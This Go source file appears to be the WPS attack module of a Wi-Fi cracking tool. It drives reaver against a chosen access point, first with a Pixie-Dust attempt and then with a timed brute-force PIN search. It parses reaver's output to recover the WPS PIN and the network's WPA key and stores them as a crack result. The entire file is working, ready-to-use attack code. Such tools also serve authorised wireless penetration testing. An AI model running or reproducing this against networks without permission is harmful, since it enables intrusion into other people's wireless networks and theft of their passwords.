package attack

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"time"

	"github.com/wlfwifi/wlfwifi/internal/result"
	"github.com/wlfwifi/wlfwifi/internal/tools"
	"github.com/wlfwifi/wlfwifi/pkg/wifi"
)

// WPSPhase is the WPS attack's own progress inside the running state.
type WPSPhase int

const (
	WPSIdle WPSPhase = iota
	WPSPINSearch
	WPSPINFound
	WPSExhausted
)

func (p WPSPhase) String() string {
	switch p {
	case WPSIdle:
		return "idle"
	case WPSPINSearch:
		return "pin-search"
	case WPSPINFound:
		return "pin-found"
	case WPSExhausted:
		return "exhausted"
	}
	return "unknown"
}

// WPSAttack recovers the WPS PIN, and through it the PSK, with reaver. A
// Pixie-Dust attempt runs first when enabled.
type WPSAttack struct {
	Lifecycle

	env    *Env
	target *wifi.Target

	mu     sync.Mutex
	phase  WPSPhase
	proc   *tools.Process
	result *result.CrackResult
}

var _ Attack = (*WPSAttack)(nil)

func NewWPSAttack(env *Env, target *wifi.Target) *WPSAttack {
	return &WPSAttack{env: env, target: target}
}

func (w *WPSAttack) RunAttack(ctx context.Context) error {
	if err := w.Start(); err != nil {
		return err
	}
	rv := w.env.Tools.WPS
	if rv == nil || !rv.Available() {
		return fmt.Errorf("%w: reaver", ErrToolMissing)
	}
	cfg := w.env.Config.Attack.WPS
	w.setPhase(WPSPINSearch)

	if cfg.PixieDust {
		w.status("Trying Pixie-Dust...", -1)
		pctx, cancel := context.WithTimeout(ctx, cfg.PixieTimeout)
		res, err := rv.PixieDust(pctx, w.env.Iface, w.target.BSSID, w.target.Channel)
		cancel()
		if err == nil {
			w.found(res.PIN, res.PSK, "WPS Pixie-Dust")
			return nil
		}
		if ctx.Err() != nil {
			return ctx.Err()
		}
		w.env.logf("[wps] %s: %v", w.target.BSSID, err)
	}

	sctx, cancel := context.WithTimeout(ctx, cfg.PINTimeout)
	defer cancel()
	proc, err := rv.PINSearch(sctx, w.env.Iface, w.target.BSSID, w.target.Channel)
	if err != nil {
		w.setPhase(WPSExhausted)
		return fmt.Errorf("start PIN search: %w", err)
	}
	w.mu.Lock()
	w.proc = proc
	w.mu.Unlock()

	var pin, psk string
	sc := proc.Scanner()
	for sc.Scan() {
		rl := tools.ParseReaverLine(sc.Text())
		if rl.PIN != "" {
			pin = rl.PIN
		}
		if rl.PSK != "" {
			psk = rl.PSK
		}
		switch {
		case rl.Limited:
			w.status("AP is rate limiting PIN attempts", -1)
		case rl.Progress >= 0:
			w.status(fmt.Sprintf("%.2f%% of PINs tried", rl.Progress), rl.Progress/100)
		}
		if pin != "" && psk != "" {
			break
		}
	}
	if pin != "" {
		_ = proc.Stop()
		w.found(pin, psk, "WPS PIN")
		return nil
	}

	werr := proc.Wait()
	w.setPhase(WPSExhausted)
	switch {
	case ctx.Err() != nil:
		return ctx.Err()
	case errors.Is(sctx.Err(), context.DeadlineExceeded):
		return fmt.Errorf("%w: no PIN for %s after %s", ErrTimeout, w.target.BSSID, cfg.PINTimeout)
	case werr != nil:
		return fmt.Errorf("reaver: %w", werr)
	}
	return fmt.Errorf("no WPS PIN recovered for %s", w.target.BSSID)
}

func (w *WPSAttack) found(pin, psk, kind string) {
	w.mu.Lock()
	w.phase = WPSPINFound
	w.result = &result.CrackResult{
		BSSID:      w.target.BSSID,
		ESSID:      w.target.ESSID,
		Key:        psk,
		PIN:        pin,
		Encryption: w.target.Encryption,
		AttackType: kind,
		Timestamp:  time.Now(),
	}
	w.mu.Unlock()
	w.status("PIN found: "+pin, 1)
}

// EndAttack interrupts reaver if it is still running. The phase reached
// is kept.
func (w *WPSAttack) EndAttack(ctx context.Context) error {
	if !w.Stop() {
		return nil
	}
	w.mu.Lock()
	proc, res := w.proc, w.result
	w.mu.Unlock()

	if proc != nil {
		tools.SendInterrupt(proc)
		_ = proc.Stop()
	}
	if res != nil {
		res.Duration = result.Duration(w.Elapsed())
	}
	return nil
}

func (w *WPSAttack) Result() *result.CrackResult {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.result
}

// Phase returns the attack's WPS-specific progress.
func (w *WPSAttack) Phase() WPSPhase {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.phase
}

func (w *WPSAttack) setPhase(p WPSPhase) {
	w.mu.Lock()
	w.phase = p
	w.mu.Unlock()
}

func (w *WPSAttack) status(msg string, progress float64) {
	w.env.report(StatusUpdate{
		Attack:   "WPS",
		Target:   w.target.String(),
		Message:  msg,
		Progress: progress,
		Elapsed:  w.Elapsed(),
	})
}
